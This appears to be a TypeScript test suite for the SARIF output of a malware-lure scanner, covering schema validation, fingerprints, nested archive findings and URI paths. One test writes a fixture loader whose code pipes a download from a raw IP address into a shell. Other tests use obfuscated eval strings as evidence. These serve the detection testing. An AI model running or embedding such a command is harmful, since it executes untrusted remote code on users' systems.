import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { gzipSync } from 'node:zlib';
import { join, relative } from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, it } from 'node:test';
import AjvDraft04 from 'ajv-draft-04';
import addFormats from 'ajv-formats';
import type * as Sarif from 'sarif';
import { scan } from '../../src/index.js';
import type { Report } from '../../src/core/report.js';
import { fingerprint, renderSarif, sarifOptionsFor } from '../../src/reporters/sarif.js';
import { dirWithErrors, emptyDir, EXAMPLE, REPO, runCli } from '../cli/helpers.js';

// The official SARIF 2.1.0 schema (draft-04), vendored from an npm package: see schema/README.md.
const sarifSchema = JSON.parse(readFileSync(join(REPO, 'schema/sarif-2.1.0-rtm.5.json'), 'utf8'));
const ajv = new AjvDraft04.default({ allErrors: true, strict: false, unicodeRegExp: false }) // the schema's language pattern is not valid with /u;
addFormats.default(ajv);
const validate = ajv.compile(sarifSchema);

function assertValidSarif(text: string): Sarif.Log {
  const log = JSON.parse(text) as Sarif.Log;
  assert.ok(validate(log), `not valid SARIF 2.1.0:\n${JSON.stringify(validate.errors?.slice(0, 5), null, 2)}`);
  return log;
}

describe('SARIF 2.1.0 reporter', () => {
  it('the example lure: valid SARIF with rules, help, fingerprints and regions GitHub accepts', async () => {
    const report = await scan(EXAMPLE);
    const log = assertValidSarif(renderSarif(report));
    assert.equal(log.version, '2.1.0');
    const run = log.runs[0]!;
    const rules = run.tool.driver.rules!;
    assert.ok(rules.length >= 1);
    for (const rule of rules) {
      assert.match(rule.id, /^[a-z0-9-]+$/);
      assert.ok(rule.name && rule.shortDescription?.text && rule.fullDescription?.text, rule.id);
      assert.ok(rule.help?.text && rule.help.markdown?.includes('### What to do'), rule.id);
      assert.equal(rule.helpUri, `https://github.com/lurescan/lurescan/blob/main/docs/rules/${rule.id}.md`);
      const props = rule.properties as Record<string, unknown>;
      assert.ok(Array.isArray(props.tags) && (props.tags as string[]).includes('security'));
      assert.match(String(props['security-severity']), /^\d+\.\d$/);
      assert.ok(['high', 'medium', 'low', 'very-high'].includes(String(props.precision)));
    }
    assert.equal(run.results!.length, report.findings.length);
    for (const r of run.results!) {
      assert.equal(rules[r.ruleIndex!]!.id, r.ruleId);
      assert.ok(['error', 'warning', 'note'].includes(r.level!));
      const loc = r.locations![0]!.physicalLocation!;
      assert.ok(loc.region!.startLine! >= 1 && loc.region!.startColumn! >= 1);
      assert.ok(loc.region!.endLine! >= loc.region!.startLine!);
      assert.ok(loc.region!.snippet?.text);
      assert.equal(run.artifacts![loc.artifactLocation!.index!]!.location!.uri, loc.artifactLocation!.uri);
      assert.match(r.partialFingerprints!['lurescan/v1']!, /^[0-9a-f]{32}(:\d+)?$/);
    }
    const tw = run.artifacts!.find((a) => a.location!.uri === 'tailwind.config.js')!;
    assert.equal(tw.hashes!['sha-256'], report.fileHashes!['tailwind.config.js']);
    assert.equal(run.invocations![0]!.executionSuccessful, true);
  });

  it('fingerprints survive moving the finding to another line, and differ for other evidence', () => {
    const f = { ruleId: 'r', file: 'a.js', evidence: 'eval(atob("x"))' };
    assert.equal(fingerprint(f), fingerprint({ ...f }));
    assert.equal(fingerprint(f), fingerprint({ ...f, evidence: '  eval(atob("x"))\n' }));
    assert.notEqual(fingerprint(f), fingerprint({ ...f, evidence: 'eval(atob("y"))' }));
    assert.notEqual(fingerprint(f), fingerprint({ ...f, file: 'b.js' }));
  });

  it('same evidence twice in a file gets two distinct fingerprints; moved lines keep them', async () => {
    const base = await scan(EXAMPLE);
    const f = base.findings[0]!;
    const twice: Report = { ...base, findings: [f, { ...f, line: f.line + 10, endLine: f.endLine + 10 }] };
    const moved: Report = { ...base, findings: [{ ...f, line: f.line + 3, endLine: f.endLine + 3 }, { ...f, line: f.line + 13, endLine: f.endLine + 13 }] };
    const fps = (r: Report) => JSON.parse(renderSarif(r)).runs[0].results.map((x: Sarif.Result) => x.partialFingerprints!['lurescan/v1']);
    const a = fps(twice);
    assert.equal(new Set(a).size, 2);
    assert.deepEqual(fps(moved), a);
  });

  it('an incomplete scan: executionSuccessful false with a notification per error', async () => {
    const report = await scan(dirWithErrors(), { limits: { maxFileBytes: 1 << 20 }, threads: 0 });
    const log = assertValidSarif(renderSarif(report));
    const inv = log.runs[0]!.invocations![0]!;
    assert.equal(inv.executionSuccessful, false);
    assert.ok(inv.toolExecutionNotifications!.some((n) => n.level === 'error' && n.message.text!.includes('big.bin')));
  });

  it('an empty folder: valid SARIF with no results', async () => {
    const log = assertValidSarif(renderSarif(await scan(emptyDir())));
    assert.deepEqual(log.runs[0]!.results, []);
  });

  it('hostile file names become valid URI references; project-wide findings still get a location (GitHub needs one)', async () => {
    const base = await scan(EXAMPLE);
    const f = base.findings[0]!;
    const report: Report = { ...base, findings: [{ ...f, file: 'a b/#x%.js' }, { ...f, file: '' }] };
    const log = assertValidSarif(renderSarif(report));
    const results = log.runs[0]!.results!;
    assert.equal(results[1]!.locations![0]!.physicalLocation!.artifactLocation!.uri, 'a%20b/%23x%25.js');
    // Every result has a physical location with a non-empty URI, or GitHub rejects the whole upload.
    for (const x of results) assert.ok(x.locations?.[0]?.physicalLocation?.artifactLocation?.uri, JSON.stringify(x.locations));
    assert.equal(results[0]!.locations![0]!.physicalLocation!.artifactLocation!.uri, report.autorun[0]?.file ?? 'a%20b/%23x%25.js');
    assert.match(results[0]!.message.text!, /project-wide finding/);
  });

  it('a finding inside an archive is shown on the archive (the file in the repo), the entry as its nested artifact', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'lurescan-sarif-nested-'));
    try {
      mkdirSync(join(dir, 'lib'));
      const payload = "const cp = require('child_process');\n\ncp.exec('curl -s http://45.61.160.14/s | sh');\n";
      writeFileSync(join(dir, 'lib', 'loader.js.gz'), gzipSync(Buffer.from(payload)));
      const report = await scan(dir);
      assert.deepEqual(report.archives, ['lib/loader.js.gz']);
      const inner = report.findings.find((f) => f.file === 'lib/loader.js.gz/loader.js' && f.line === 3);
      assert.ok(inner, JSON.stringify(report.findings.map((f) => [f.ruleId, f.file, f.line])));
      const run = assertValidSarif(renderSarif(report)).runs[0]!;
      const r = run.results!.find((x) => x.ruleId === inner.ruleId && (x.properties as Record<string, unknown>).archiveEntry === 'loader.js')!;
      const loc = r.locations![0]!.physicalLocation!;
      assert.equal(loc.artifactLocation!.uri, 'lib/loader.js.gz');
      assert.equal(loc.region!.startLine, 1);
      assert.match(r.message.text!, /\(in the archive entry loader\.js, line 3\)$/);
      assert.equal(run.artifacts![loc.artifactLocation!.index!]!.location!.uri, 'lib/loader.js.gz');
      const nested = run.artifacts!.find((a) => a.location!.uri === 'loader.js')!;
      assert.equal(run.artifacts![nested.parentIndex!]!.location!.uri, 'lib/loader.js.gz');
      assert.equal(nested.hashes!['sha-256'], report.fileHashes!['lib/loader.js.gz/loader.js']);
      // The fingerprint still tells entries of one archive apart: it hashes the entry's full path.
      assert.equal(r.partialFingerprints!['lurescan/v1'], fingerprint(inner));
      // No result points at a path that does not exist in the folder.
      for (const x of run.results!) assert.doesNotMatch(x.locations![0]!.physicalLocation!.artifactLocation!.uri!, /\.gz\//);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('the schema check has teeth: startLine 0 or an unknown level is rejected', async () => {
    const log = JSON.parse(renderSarif(await scan(EXAMPLE)));
    log.runs[0].results[0].locations[0].physicalLocation.region.startLine = 0;
    assert.equal(validate(log), false);
    const log2 = JSON.parse(renderSarif(await scan(EXAMPLE)));
    log2.runs[0].results[0].level = 'critical';
    assert.equal(validate(log2), false);
  });

  it('the CLI prints it with --format sarif', async () => {
    const run = await runCli(['scan', EXAMPLE, '--format', 'sarif']);
    assert.equal(run.code, 1);
    assertValidSarif(run.stdout);
  });

  it('paths are relative to the repository root when a subfolder is scanned from it (code scanning resolves them there)', async () => {
    const run = await runCli(['scan', EXAMPLE, '--format', 'sarif']);
    const log = assertValidSarif(run.stdout);
    const prefix = `${relative(process.cwd(), EXAMPLE).split('\\').join('/')}/`;
    assert.ok(prefix.length > 1 && !prefix.startsWith('..'), `the example lies inside the working directory (${prefix})`);
    const uris = log.runs[0]!.results!.map((r) => r.locations![0]!.physicalLocation!.artifactLocation!.uri!);
    assert.ok(uris.length > 0);
    for (const uri of uris) assert.ok(uri.startsWith(prefix), `${uri} starts with ${prefix}`);
    assert.deepEqual(log.runs[0]!.originalUriBaseIds, { '%SRCROOT%': { uri: pathToFileURL(`${process.cwd()}/`).href } });
    // The fingerprint does not depend on where the folder was scanned from.
    const direct = JSON.parse(renderSarif(await scan(EXAMPLE)));
    assert.deepEqual(
      log.runs[0]!.results!.map((r) => r.partialFingerprints),
      direct.runs[0].results.map((r: Sarif.Result) => r.partialFingerprints),
    );
    assert.equal(direct.runs[0].originalUriBaseIds, undefined, 'the library default stays relative to the scanned folder');
  });

  it('a folder outside the working directory: paths relative to it, %SRCROOT% names it', () => {
    assert.deepEqual(sarifOptionsFor('/srv/checkout', '/home/me'), { srcRootUri: 'file:///srv/checkout/' });
    assert.deepEqual(sarifOptionsFor('/home/me', '/home/me'), { srcRootUri: 'file:///home/me/' });
    assert.deepEqual(sarifOptionsFor('/home/me/a b/c', '/home/me'), { pathPrefix: 'a b/c/', srcRootUri: 'file:///home/me/' });
  });
});
